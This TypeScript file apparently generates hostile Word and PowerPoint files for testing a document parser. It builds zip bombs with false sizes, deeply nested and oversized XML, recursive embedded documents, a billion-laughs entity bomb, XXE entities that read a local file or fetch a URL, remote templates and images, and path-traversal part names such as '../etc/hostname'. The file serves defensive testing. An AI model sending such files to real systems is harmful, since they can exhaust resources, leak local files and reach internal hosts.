import {
  docxParts,
  namespaces,
  paragraph,
  pptxParts,
  relations,
  textShape,
} from '../make-office.ts';
import { packBomb, packPart, packZip, type PackedPart } from './pack-zip.ts';
import type { HostileFile, Lure } from './hostile-file.ts';

const inText = '<w:p><w:r><w:t>';
const pastText = '</w:t></w:r></w:p></w:body></w:document>';
const root = `<w:document ${namespaces.w} ${namespaces.r} ${namespaces.a}><w:body>`;

/** Documents and presentations that unpack to more than there is, or ask for what is not theirs. */
export function makeHostileOffice(lure: Lure): HostileFile[] {
  const name = 'lecture.docx';
  return [
    { what: 'a part of two gigabytes of nothing', name, bytes: bomb(2_048) },
    { what: 'a part that says it is ten bytes and is two gigabytes', name, bytes: bomb(2_048, 10) },
    { what: 'a million elements', name, bytes: elements() },
    { what: 'elements in elements, a million deep', name, bytes: deep() },
    { what: 'a hundred documents in one another', name, bytes: nested(100) },
    { what: 'a document that holds bombs', name, bytes: nested(1, bomb(2_048)) },
    { what: 'a million parts', name, bytes: million() },
    { what: 'two hundred names for one bomb', name, bytes: overlapping() },
    { what: 'a billion laughs', name, bytes: document(laughs()) },
    { what: 'entities from elsewhere', name, bytes: document(entities(lure)) },
    { what: 'pictures and templates from elsewhere', name, bytes: outsiders(lure) },
    { what: 'parts whose names lead out', name, bytes: strayParts() },
    { what: 'slides with pictures from elsewhere', name: 'talk.pptx', bytes: slides(lure) },
    { what: 'a slide of seventeen million elements', name: 'talk.pptx', bytes: slideElements() },
  ];
}

function docx(replaced: readonly PackedPart[], aliases?: readonly string[]): Buffer {
  const parts = Object.entries(docxParts({ body: paragraph('Words.') }))
    .filter(([name]) => !replaced.some((part) => part.name === name))
    .map(([name, content]) => packPart(name, content));
  return packZip([...parts, ...replaced], aliases);
}

function document(xml: string): Buffer {
  return docx([packPart('word/document.xml', xml)]);
}

function bomb(megabytes: number, statedBytes?: number): Buffer {
  const filler = Buffer.alloc(1024 * 1024, ' ');
  const part = packBomb('word/document.xml', {
    begin: root + inText,
    filler,
    times: megabytes,
    end: pastText,
  });
  return docx([{ ...part, ...(statedBytes !== undefined && { statedBytes }) }]);
}

/** Each run of them differs a little, so that they pack no better than real text. */
function manyElements(element: (n: number) => string): Buffer {
  let state = 11;
  const next = () => (state = (state * 48_271) % 2_147_483_647);
  return Buffer.from(Array.from({ length: 20_000 }, () => element(next())).join(''));
}

function elements(): Buffer {
  const filler = manyElements((n) => `<w:p><w:r><w:t>${n}</w:t></w:r></w:p>`);
  const end = '</w:body></w:document>';
  return docx([packBomb('word/document.xml', { begin: root, filler, times: 12, end })]);
}

function slideElements(): Buffer {
  const parts = pptxParts({ slides: [textShape('One')] });
  const whole = String(parts['ppt/slides/slide1.xml']);
  const [begin = '', end = ''] = whole.split('</p:spTree>');
  const filler = manyElements((n) => textShape(String(n)));
  const slide = packBomb('ppt/slides/slide1.xml', {
    begin,
    filler,
    times: 60,
    end: `</p:spTree>${end}`,
  });
  const others = Object.entries(parts).filter(([name]) => name !== slide.name);
  return packZip([...others.map(([name, content]) => packPart(name, content)), slide]);
}

function deep(): Buffer {
  const filler = Buffer.from('<w:sdt><w:sdtContent>'.repeat(10_000));
  return docx([packBomb('word/document.xml', { begin: root, filler, times: 50 })]);
}

function nested(levels: number, innermost = document(root + inText + pastText)): Buffer {
  let bytes = innermost;
  for (let level = 0; level < levels; level++) {
    const name = 'word/embeddings/inner.docx';
    const body = `${root}<w:p><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" r:id="e1"/></w:object></w:p></w:body></w:document>`;
    bytes = docx([
      packPart('word/document.xml', body),
      packPart(
        'word/_rels/document.xml.rels',
        relations({ e1: ['package', 'embeddings/inner.docx'] }),
      ),
      packPart(name, bytes),
    ]);
  }
  return bytes;
}

function million(): Buffer {
  const names = Array.from({ length: 1_000_000 }, (_, i) => `word/media/${i}.xml`);
  return docx([], names);
}

function overlapping(): Buffer {
  const filler = Buffer.alloc(1024 * 1024, ' ');
  const names = Array.from({ length: 200 }, (_, i) => `word/header${i + 2}.xml`);
  const related = Object.fromEntries(
    names.map((name, i) => [`h${i}`, ['header', name.replace('word/', '')] as const]),
  );
  return docx(
    [
      packPart('word/_rels/document.xml.rels', relations(related)),
      packBomb('word/header1.xml', {
        begin: root.replaceAll('w:document', 'w:hdr'),
        filler,
        times: 15,
        end: '</w:body></w:hdr>',
      }),
    ],
    names,
  );
}

function laughs(): string {
  const levels = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
  );
  return `<!DOCTYPE x [<!ENTITY l0 "ha">${levels.join('')}]>${root}${inText}&l9;${pastText}`;
}

function entities({ file, url }: Lure): string {
  return `<!DOCTYPE x SYSTEM "${url}/x.dtd" [<!ENTITY f SYSTEM "${file}"><!ENTITY u SYSTEM "${url}/u"><!ENTITY % p SYSTEM "${url}/p"> %p;]>${root}${inText}|&f;|&u;|${pastText}`;
}

function outsiders({ file, url }: Lure): Buffer {
  const blip = (id: string) =>
    `<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed="${id}" r:link="${id}"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>`;
  return docx([
    packPart(
      'word/document.xml',
      `${root}${['f', 'u', 't', 'up'].map(blip).join('')}</w:body></w:document>`,
    ),
    packPart(
      'word/_rels/document.xml.rels',
      relations({
        f: ['image', file],
        u: ['image', `${url}/picture.png`],
        t: ['attachedTemplate', `${url}/template.dotm`],
        up: ['image', '../../../../../../../../etc/hostname'],
      }),
    ),
  ]);
}

function slides({ file, url }: Lure): Buffer {
  const picture = (id: string) =>
    `<p:pic><p:blipFill><a:blip r:embed="${id}" r:link="${id}"/></p:blipFill></p:pic>`;
  const parts = pptxParts({
    slides: [picture('f') + picture('u')],
    parts: {
      'ppt/slides/_rels/slide1.xml.rels': relations({
        f: ['image', file],
        u: ['image', `${url}/slide.png`],
      }),
    },
  });
  return packZip(Object.entries(parts).map(([name, content]) => packPart(name, content)));
}

function strayParts(): Buffer {
  const names = ['../../../stray.xml', '/stray.xml', 'C:\\stray.xml', 'word/../../stray.xml'];
  const picture = Buffer.from('89504e470d0a1a0a', 'hex');
  return docx([
    packPart(
      'word/_rels/document.xml.rels',
      relations(Object.fromEntries(names.map((name, i) => [`r${i}`, ['image', `../${name}`]]))),
    ),
    ...names.map((name) => packPart(name, picture)),
  ]);
}
